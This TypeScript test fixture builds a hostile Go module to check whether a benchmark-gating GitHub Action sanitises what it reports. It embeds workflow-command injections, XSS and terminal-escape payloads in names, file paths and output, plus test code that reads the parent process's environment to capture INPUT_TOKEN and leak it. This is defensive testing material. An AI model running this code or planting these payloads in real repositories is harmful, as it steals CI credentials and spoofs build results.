// A Go module that does what somebody could put into a pull request to harm: names that mean something to the runner,
// to GitHub or to a terminal, in every place where Go lets one choose a name; and a benchmark that looks for secrets.
import type { Files } from './repository.js';

const allocating = (pkg: string, times: number, before = ''): string => `package ${pkg}

var (
	Sink  []byte
	Turns int
)

${before}
// Work takes its time, of which the allocations are no part to speak of.
func Work() {
	for i := 0; i < 5000; i++ {
		Turns += i ^ Turns
	}
	for i := 0; i < ${times}; i++ {
		Sink = make([]byte, 64)
	}
}
`;

const testOf = (pkg: string, imports: readonly string[], body: string, more = ''): string => `package ${pkg}

import (
${[...imports, 'testing'].map((path) => `\t"${path}"\n`).join('')})

func BenchmarkWork(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		${body}
	}
}
${more}`;

/** Names of sub-benchmarks, as Go strings. Go itself rewrites blanks and what cannot be printed. */
const names = [
  '::error::from a name##[error]x',
  '@octocat/<img src=x onerror=alert(1)>|`#1[x](javascript:alert(1)) https://evil.example/x',
  '\\u202eevil\\u2066\\u200b\\x1b[2J\\x07\\r::error::x',
  '</code></details><!-- pprof-gate comment v1 key=default sha=0 run=9 attempt=9 -->',
];

const said = [
  '::error::from what is printed',
  '  ::set-output name=passes::true',
  '##[error]from what is printed',
  '\\x1b[2J\\x1b]0;title\\x07\\u202eevil',
  '::add-mask::allocs',
  '::stop-commands::x',
  '@octocat <img src=x onerror=alert(1)> #1',
];
const text = `"${said.join('\\n')}\\n"`;

/** Prints the above, all that it is given, and all that the Action itself was given. */
const spy = `package names

import (
	"fmt"
	"os"
	"strings"
	"testing"
)

func BenchmarkNames(b *testing.B) {
	for _, name := range []string{${names.map((name) => `"${name}"`).join(', ')}} {
		b.Run(name, func(b *testing.B) {
			fmt.Print(${text})
			fmt.Fprint(os.Stderr, ${text})
			b.Log(${text})
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				Work()
			}
		})
	}
}

func BenchmarkFails(b *testing.B) {
	if IsHead {
		b.Fatal(${text})
	}
}

func BenchmarkSpy(b *testing.B) {
	// In a name it would get everywhere.
	b.Run(look(), func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			Work()
		}
	})
}

func look() (token string) {
	fmt.Println("own " + strings.Join(os.Environ(), "\\nown "))
	if found, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", os.Getppid())); err == nil {
		fmt.Println("found " + strings.ReplaceAll(string(found), "\\x00", "\\nfound "))
		for _, line := range strings.Split(string(found), "\\x00") {
			if strings.HasPrefix(line, "INPUT_TOKEN=") {
				token = line
			}
		}
	}
	return token
}
`;

/** Ends with what the Action was given, found as above, in its last words. */
const tellingPanic = `found, _ := os.ReadFile(fmt.Sprintf("/proc/%d/environ", os.Getppid()))
		for _, line := range strings.Split(string(found), "\\x00") {
			if strings.HasPrefix(line, "INPUT_TOKEN=") {
				panic(line + "\\n" + ${text})
			}
		}
		panic(${text})`;
const telling = ['fmt', 'os', 'strings'];

const moduleOf = (isHead: boolean): Files => {
  const times = isHead ? 2 : 1;
  return {
    'go.mod': 'module example.com/hostile\n\ngo 1.21\n',
    '.github/pprof-gate.yml': "budgets: { sec/op: none, B/op: none, allocs/op: '+0' }\n",
    'names/names.go': allocating('names', times, `const IsHead = ${isHead}\n`),
    'names/names_test.go': spy,
    // Its lines say that they are of another file.
    'lines/lines.go': allocating(
      'lines',
      times,
      '//line ::error::@octocat<img>|`\\u202e.go:7\nfunc init() {}\n',
    ),
    'lines/lines_test.go': testOf('lines', [], 'Work()'),
    'files/::error::@octocat#1.go': allocating('files', times),
    'files/files_test.go': testOf('files', [], 'Work()'),
    'broken/broken.go': allocating(
      'broken',
      1,
      isHead
        ? '//line ::error::@octocat.go:1\nvar _ = undefinedName\n//line /etc/##[error]:1\nvar _ = also\n'
        : '',
    ),
    'broken/broken_test.go': testOf('broken', [], 'Work()'),
    'panics/panics.go': allocating('panics', times),
    'panics/panics_test.go': testOf('panics', isHead ? telling : [], isHead ? tellingPanic : 'Work()'),
    'leaves/leaves.go': allocating('leaves', times),
    'leaves/leaves_test.go': isHead
      ? testOf(
          'leaves',
          ['fmt', 'os'],
          'Work()',
          `func TestMain(*testing.M) {\n\tfmt.Print(${text})\n\tfmt.Fprint(os.Stderr, ${text})\n\tos.Exit(3)\n}\n`,
        )
      : testOf('leaves', [], 'Work()'),
  };
};

export const hostileBase = moduleOf(false);
export const hostileHead = moduleOf(true);
